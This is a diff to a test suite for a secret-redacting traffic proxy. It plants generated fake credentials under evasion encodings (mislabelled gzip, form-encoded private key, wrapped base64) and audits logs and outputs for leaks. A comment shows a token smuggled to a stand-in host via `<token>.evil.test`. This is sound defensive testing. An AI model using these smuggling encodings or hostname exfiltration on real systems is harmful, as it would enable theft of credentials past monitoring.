@@ -2,13 +2,16 @@
 // sent through the real proxy (HTTP and HTTPS; in headers, query strings and bodies, plain, gzip,
 // deflate, br, JSON-escaped, percent-encoded, base64 and hex), then every IPC frame, MCP answer, the
 // findings log, the service log and the CLI's JSON output are searched for any 8-character run of
-// any secret's random part, and for the guardian's own CA and leaf key material.
+// any secret's random part, and for the guardian's own CA and leaf key material. Paths carry secrets
+// too (one holding `/`), evasion encodings are planted (a plain body declared gzip, a form-encoded
+// private key, wrapped base64), and config output is audited: check-config, status and the service
+// log of a guardian chained to an upstream proxy whose URL holds a password.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import net from 'node:net';
 import path from 'node:path';
 import zlib from 'node:zlib';
 import { generateKeyPairSync } from 'node:crypto';
-import { existsSync, readFileSync, readdirSync, rmSync } from 'node:fs';
+import { existsSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
 import { Client } from '@modelcontextprotocol/sdk/client/index.js';
 import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
 import { loadOrCreateCa } from '../host-services/ca.js';
@@ -19,7 +22,7 @@ import { ALL_RULES } from '../lib/rules/index.js';
 import { startUpstream, type Upstream } from './support/upstream.js';
 import { viaProxyHttp, viaProxyHttps, waitFor, type Resp } from './support/proxy-client.js';
 import { startService, tempHome, type TestService } from './support/service.js';
-import { expandExample } from './support/expand-example.js';
+import { expandExample, randomString } from './support/expand-example.js';
 import { runCli } from './support/cli.js';
 
 const BUNDLE = path.resolve('dist/mcp-tools/traffic-guardian-mcp.mjs');
@@ -62,6 +65,11 @@ function pct(s: string): string {
 let upstream: Upstream;
 let upHome: string;
 let g: TestService;
+/** A guardian chained to an upstream proxy whose URL carries credentials (config output audit). */
+let chained: TestService | undefined;
+const proxyUser = `agent${randomString('lower', 12)}`;
+const proxyPass = randomString('alnum', 24);
+const configParts = [proxyUser, proxyPass];
 const plants: Plant[] = [];
 const sources = new Map<string, string>();
 
@@ -198,6 +206,37 @@ beforeAll(async () => {
   const adminKey = /sk-ant-admin01-[\w-]+AA/.exec(admin.text)![0];
   add('/p15', 'ai_api_key', admin.randomParts, (p) => https(p, { headers: { cookie: `theme=dark; k=${adminKey}` } }));
 
+  // 16. AWS secret key holding `/` in the URL path (HTTP): the path field masks the detected span.
+  // 40 characters with `/` in them; the last piece, ten-odd letters, is what survived per-segment masking.
+  const slashy = expandExample('{{rand:alnum:12}}/{{rand:alnum:12}}/{{rand:upper:14}}');
+  add('/p16', 'aws_secret_key', [...slashy.randomParts, slashy.text.replace(/\//g, '')], (p) =>
+    http(`${p}/creds/aws_secret_access_key=${slashy.text}`),
+  );
+  // 17. A plain body declared gzip (HTTPS): it does not decode, so it is scanned as it is.
+  const declared = expandExample('ghp_{{rand:alnum:36}}');
+  add('/p17', 'github_token', declared.randomParts, (p) =>
+    https(p, { method: 'POST', headers: { 'content-encoding': 'gzip' }, body: `token=${declared.text}` }),
+  );
+  // 18. A private key posted as a form, spaces as `+` (HTTP).
+  const formKey = generateKeyPairSync('rsa', {
+    modulusLength: 2048,
+    privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
+    publicKeyEncoding: { type: 'spki', format: 'pem' },
+  }).privateKey;
+  add('/p18', 'private_key_pem', pemBody(formKey), (p) =>
+    http(p, {
+      method: 'POST',
+      headers: { 'content-type': 'application/x-www-form-urlencoded' },
+      body: new URLSearchParams({ name: 'id_rsa', key: formKey }).toString(),
+    }),
+  );
+  // 19. A token file as `base64 file` writes it: wrapped at 76 columns, the token across a line break.
+  const wrapped = expandExample('ghp_{{rand:alnum:36}}');
+  const wrappedB64 = Buffer.from(`${'#'.repeat(30)} GITHUB_TOKEN=${wrapped.text}\n`)
+    .toString('base64')
+    .replace(/.{76}/g, '$&\n');
+  add('/p19', 'github_token', wrapped.randomParts, (p) => http(p, { method: 'POST', body: wrappedB64 }));
+
   for (const plant of plants) {
     const r = await plant.send();
     expect(r.status, plant.path).toBeGreaterThan(0);
@@ -274,9 +313,30 @@ beforeAll(async () => {
   const findings = await runCli(['findings', '--json', '--limit', '500'], { env });
   expect(findings.code, findings.stderr).toBe(0);
   sources.set('cli findings', findings.stdout + findings.stderr);
+
+  // --- config output: a proxy URL with credentials never comes back out ---
+  const proxyUrl = `http://${proxyUser}:${proxyPass}@127.0.0.1:9`;
+  const cfgFile = path.join(g.home, 'audit-config.json');
+  writeFileSync(cfgFile, JSON.stringify({ upstream_proxy: proxyUrl, proxy_port: 0 }));
+  const cfgOut: string[] = [];
+  for (const args of [
+    ['check-config', cfgFile],
+    ['check-config', cfgFile, '--json'],
+  ]) {
+    const r = await runCli(args, { env });
+    expect(r.code, r.stderr).toBe(0);
+    cfgOut.push(r.stdout, r.stderr);
+  }
+  sources.set('check-config', cfgOut.join('\n'));
+  chained = await startService({ upstream_proxy: proxyUrl });
+  // A request through the dead upstream proxy: its error is logged and answered, never with the URL.
+  await viaProxyHttp(chained.port, `http://localhost:${upstream.httpPort}/chained`);
+  sources.set('chained status', await rawIpc(chained.svc.socketPath, [{ id: 1, method: 'get_status' }]));
+  sources.set('chained service log', chained.logs.join('\n'));
 });
 
 afterAll(async () => {
+  await chained?.stop();
   await g?.stop();
   await upstream?.close();
   if (upHome) rmSync(upHome, { recursive: true, force: true });
@@ -299,7 +359,16 @@ describe('leak audit', () => {
       new Set(['http', 'https']),
     );
     expect(fs.some((f) => f.threat_type === 'INJECTION')).toBe(true);
-    for (const name of ['ipc frames', 'mcp results', 'findings log', 'service log', 'cli status', 'cli findings'])
+    for (const name of [
+      'ipc frames',
+      'mcp results',
+      'findings log',
+      'service log',
+      'cli status',
+      'cli findings',
+      'check-config',
+      'chained status',
+    ])
       expect(sources.get(name)?.length ?? 0, name).toBeGreaterThan(200);
     // The outputs do carry the findings: a marker of redaction is in each of them.
     for (const name of ['ipc frames', 'mcp results', 'findings log', 'cli findings'])
@@ -315,6 +384,29 @@ describe('leak audit', () => {
     for (const [name, text] of sources) for (const w of windows) if (text.includes(w)) leaks.push(`${name}: ${w}`);
     expect(leaks).toEqual([]);
   });
+
+  it('never echoes the upstream proxy credentials: check-config, status, the service log', () => {
+    expect(sources.get('check-config')).toContain('http://[REDACTED]@127.0.0.1:9');
+    expect(sources.get('chained status')).toContain('"upstream_proxy":true');
+    expect(sources.get('chained service log')!.length).toBeGreaterThan(50);
+    const leaks: string[] = [];
+    for (const [name, text] of sources) {
+      for (const part of configParts) if (text.includes(part.slice(0, 8))) leaks.push(`${name}: ${part.slice(0, 8)}`);
+    }
+    expect(leaks).toEqual([]);
+  });
+
+  it('masks the detected span in paths: no piece of a secret holding `/` survives in any path field', async () => {
+    const fs = await g.svc.listFindings({ limit: 500 });
+    const f = fs.find((x) => x.pattern === 'aws_secret_key' && (x.path ?? '').startsWith('/p16/'));
+    expect(f?.path).toBe('/p16/creds/aws_secret_access_key=[REDACTED]');
+  });
+
+  // Not covered here yet (issue 12 point 1, hosts): a secret in an absolute-URI or CONNECT host
+  // (`GET http://<token>.evil.test/`, `CONNECT <token>.evil.test:443`) must be redacted in `dest`,
+  // status destinations and the service log. That needs the proxy to scan and redact hostnames
+  // (helper "proxy-flow"); add those plants to this audit when it lands.
+  it.todo('redacts a secret carried in a request-target, Host or CONNECT hostname everywhere it is written');
 
   it('shows no CA or leaf key material in any output', () => {
     const caDir = path.join(g.home, 'ca');
